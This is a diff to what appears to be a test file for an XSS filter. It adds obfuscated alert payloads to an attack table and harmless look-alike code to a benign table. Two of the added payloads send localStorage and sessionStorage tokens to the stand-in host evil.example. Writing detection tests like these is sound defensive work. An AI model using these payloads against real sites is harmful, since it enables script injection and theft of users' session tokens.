@@ -30,6 +30,16 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['alert through Reflect.apply', 'xss', 'q', 'Reflect.apply(alert,null,[1])'],
   ['alert as a replacer', 'xss', 'q', "'1'.replace(/1/,alert)"],
   ['a handler assigned in a block, then an error thrown', 'xss', 'q', '{onerror=alert}throw 1'],
+  ['alert through Array.from', 'xss', 'q', 'Array.from([1],alert)'],
+  ['alert as an event listener', 'xss', 'q', "addEventListener('load',alert)"],
+  ['alert as a getter', 'xss', 'json', 'new Proxy({},{get:alert})'],
+  // xss: a global indexed by a variable holding a sink's name; the Function constructor fed decoded code.
+  ['a global indexed by a variable named alert', 'xss', 'q', 'x="alert";window[x](1)'],
+  ['Function of atob', 'xss', 'q', "Function(atob('YWxlcnQoMSk='))()"],
+  // xss: navigation to the fragment; storage sent to another host.
+  ['location set from the fragment', 'xss', 'q', 'location=location.hash.slice(1)'],
+  ['local storage concatenated into a URL', 'xss', 'q', "new Image().src='//evil.example/?'+localStorage.getItem('token')"],
+  ['session storage in a beacon', 'xss', 'form', "navigator.sendBeacon('//evil.example',sessionStorage.token)"],
   // xss: a global indexed by a number spelled in base 30 ("alert").
   ['a name from Number#toString', 'xss', 'q', 'top[8680439..toString(30)](1)'],
   // xss: script loaded from another host.
@@ -94,6 +104,13 @@ const BENIGN: Array<[string, Where, string]> = [
   ['Reflect.apply of a function', 'q', 'Reflect.apply(fn, thisArg, args)'],
   ['a promise handing over its own function', 'json', 'fetchItems().then(render).catch(showError)'],
   ['a dynamic import of a relative module', 'q', "import('./module.js')"],
+  ['ordinary code indexing its own table', 'json', 'handlers[name](e)'],
+  ['a listener of its own', 'json', "el.addEventListener('click', onClick)"],
+  ['Array.from with a mapper', 'json', 'Array.from(items, toLabel)'],
+  ['an object with a formatter', 'json', '{toString: fmt, get: read}'],
+  ['navigation to a path', 'json', "location.href = '/home'"],
+  ['a theme read from storage', 'json', "localStorage.getItem('theme')"],
+
   ['a VBA message box without parentheses', 'form', 'MsgBox "Hello world"'],
   ['a VBA message box of a variable', 'form', 'Dim x As Integer: MsgBox(x)'],
   ['a VBA string joined with a line break constant', 'form', 's = "Line 1" & vbCrLf & "Line 2"'],
